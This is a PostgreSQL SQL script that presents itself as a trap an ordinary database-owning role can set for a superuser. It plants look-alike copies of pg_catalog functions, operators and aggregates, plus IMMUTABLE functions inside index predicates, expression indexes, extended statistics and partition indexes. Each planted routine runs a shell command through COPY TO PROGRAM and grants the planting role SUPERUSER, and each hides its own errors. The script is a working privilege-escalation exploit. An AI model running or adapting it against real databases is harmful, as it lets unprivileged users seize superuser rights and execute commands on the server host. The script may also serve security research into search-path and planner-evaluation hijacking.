-- What an ordinary role can put in the way of whoever comes as superuser: in a schema of its own, a copy of every function,
-- aggregate and operator of PostgreSQL's that can be copied, and in its tables what the planner runs by itself. Each notes
-- its name in a file of the server and makes the role a superuser, where it is run with the rights for that.
--
-- Run as that role, who owns the database; the name of the schema is :'schema'.
\set ON_ERROR_STOP on
SET client_min_messages = error;
SET search_path = pg_catalog;
CREATE SCHEMA IF NOT EXISTS :"schema";
SELECT set_config('planted.schema', :'schema', false);

DO $plant$
DECLARE
  home text := current_setting('planted.schema');
  thing record;
  body text;
BEGIN
  body := format($body$
    BEGIN
      COPY (SELECT 1) TO PROGRAM 'cat >/dev/null; echo "$name$" >>/tmp/planted';
      ALTER ROLE %I SUPERUSER;
      RETURN $nothing$;
    EXCEPTION WHEN OTHERS THEN RETURN $nothing$;
    END $body$, current_user);

  FOR thing IN
    SELECT oid, proname AS name, pg_get_function_arguments(oid) AS arguments, pg_get_function_result(oid) AS result,
      proretset OR 'o' = ANY (proargmodes) IS TRUE AS says_nothing
    FROM pg_proc WHERE pronamespace = 'pg_catalog'::regnamespace AND prokind = 'f'
  LOOP
    BEGIN
      EXECUTE format('CREATE FUNCTION %I.%I(%s) RETURNS %s LANGUAGE plpgsql AS %L', home, thing.name, thing.arguments, thing.result,
        replace(replace(body, '$name$', thing.name), '$nothing$', CASE WHEN thing.says_nothing OR thing.result = 'void' THEN '' ELSE 'NULL' END));
    EXCEPTION WHEN OTHERS THEN NULL;
    END;
  END LOOP;

  FOR thing IN
    SELECT oid, oprname AS name, oprleft::regtype AS "left", oprright::regtype AS "right", oprresult::regtype AS result
    FROM pg_operator WHERE oprnamespace = 'pg_catalog'::regnamespace AND oprcode <> 0
  LOOP
    BEGIN
      EXECUTE format('CREATE FUNCTION %I.operator_%s(%s) RETURNS %s LANGUAGE plpgsql AS %L', home, thing.oid,
        concat_ws(', ', nullif(thing."left"::text, '-'), thing."right"), thing.result,
        replace(replace(body, '$name$', 'operator ' || translate(thing.name, '`$"\', '....')), '$nothing$', 'NULL'));
      EXECUTE format('CREATE OPERATOR %I.%s (FUNCTION = %I.operator_%s, %sRIGHTARG = %s)', home, thing.name, home, thing.oid,
        CASE WHEN thing."left"::text <> '-' THEN format('LEFTARG = %s, ', thing."left") END, thing."right");
    EXCEPTION WHEN OTHERS THEN NULL;
    END;
  END LOOP;

  -- What takes arguments of any type can be outdone for the types of those that are sent.
  FOR thing IN
    SELECT name, arguments, CASE name WHEN 'jsonb_build_object' THEN 'jsonb' ELSE 'text' END AS result
    FROM (VALUES ('format', 'text, name'), ('format', 'text, name, name'), ('format', 'text, name, text'), ('format', 'text, name, bigint'),
      ('format', 'text, name, name, bigint'), ('format', 'text, text, name, text, text'), ('format', 'text, text, name, text, name'),
      ('format', 'text, VARIADIC text[]'), ('record_out', 'record'), ('xml_out', 'xml'), ('json_out', 'json'), ('textin', 'text'), ('pg_column_size', 'anyelement'), ('jsonb_build_object', 'VARIADIC text[]'),
      ('jsonb_build_object', 'text, name, text, text'), ('jsonb_build_object', 'text, name, text, name, text, text, text, text'),
      ('jsonb_build_object', 'text, name, text, name, text, bigint, text, boolean')) AS signature (name, arguments)
  LOOP
    EXECUTE format('CREATE FUNCTION %I.%I(%s) RETURNS %s LANGUAGE plpgsql AS %L', home, thing.name, thing.arguments, thing.result,
      replace(replace(body, '$name$', thing.name), '$nothing$', 'NULL'));
  END LOOP;

  FOR thing IN
    SELECT * FROM (VALUES ('count', '*', ''), ('row_number', '*', ''), ('count', 'anyelement', ', anyelement'), ('jsonb_agg', 'anyelement', ', anyelement'),
      ('string_agg', 'text, text', ', text, text'), ('array_agg', 'anyelement', ', anyelement'), ('sum', 'bigint', ', bigint'),
      ('min', 'text', ', text'), ('jsonb_object_agg', 'text, text', ', text, text'), ('max', 'text', ', text')) AS aggregate (name, arguments, inputs)
  LOOP
    EXECUTE format('CREATE FUNCTION %I.%I(text%s) RETURNS text LANGUAGE plpgsql AS %L', home, 'step_of_' || thing.name, thing.inputs,
      replace(replace(body, '$name$', thing.name), '$nothing$', 'NULL'));
    EXECUTE format('CREATE AGGREGATE %I.%I(%s) (SFUNC = %I.%I, STYPE = text)', home, thing.name, thing.arguments, home, 'step_of_' || thing.name);
  END LOOP;
END $plant$;

-- The planner evaluates these by itself, for any statement that reads the table, whatever the search path.
CREATE SCHEMA IF NOT EXISTS prey;
CREATE FUNCTION prey.act(what text) RETURNS integer LANGUAGE plpgsql AS $$
BEGIN
  -- Of a superuser whose session was given another role.
  SET ROLE NONE;
  EXECUTE pg_catalog.format('COPY (SELECT 1) TO PROGRAM %L', pg_catalog.format('cat >/dev/null; echo "%s" >>/tmp/planted', what));
  EXECUTE pg_catalog.format('ALTER ROLE %I SUPERUSER',
    (SELECT pg_catalog.pg_get_userbyid(nspowner) FROM pg_catalog.pg_namespace WHERE nspname OPERATOR(pg_catalog.=) 'prey'));
  RETURN 1;
EXCEPTION WHEN OTHERS THEN RETURN 1;
END $$;
-- What does not change may be evaluated at any time; it may not act, but may call what acts.
CREATE FUNCTION prey.constant(what text) RETURNS integer LANGUAGE plpgsql IMMUTABLE AS
  $$ BEGIN RETURN prey.act(what); END $$;
CREATE FUNCTION prey.either(integer, what text) RETURNS integer LANGUAGE plpgsql IMMUTABLE AS
  $$ BEGIN RETURN prey.act(what); END $$;
CREATE FUNCTION prey.lowered(value text) RETURNS text LANGUAGE sql IMMUTABLE AS
  $$ SELECT pg_catalog.lower(value) OPERATOR(pg_catalog.||) prey.constant('a function within an index')::text $$;
CREATE TABLE prey.partial (a integer, b text);
CREATE INDEX ON prey.partial (a) WHERE prey.constant('the condition of an index') = 1;
CREATE TABLE prey.expression (a integer, b text);
CREATE INDEX ON prey.expression (prey.lowered(b));
CREATE TABLE prey.statistics (a integer, b text);
CREATE STATISTICS prey.both ON (a + prey.constant('statistics')), b FROM prey.statistics;
CREATE TABLE prey.parted (a integer) PARTITION BY RANGE (a);
CREATE TABLE prey.part PARTITION OF prey.parted DEFAULT;
CREATE INDEX ON prey.parted (a) WHERE prey.constant('an index of a partition') = 1;
INSERT INTO prey.partial SELECT n, n::text FROM generate_series(1, 70) n;
INSERT INTO prey.expression SELECT n, n::text FROM generate_series(1, 80) n;
INSERT INTO prey.part SELECT n FROM generate_series(1, 90) n;
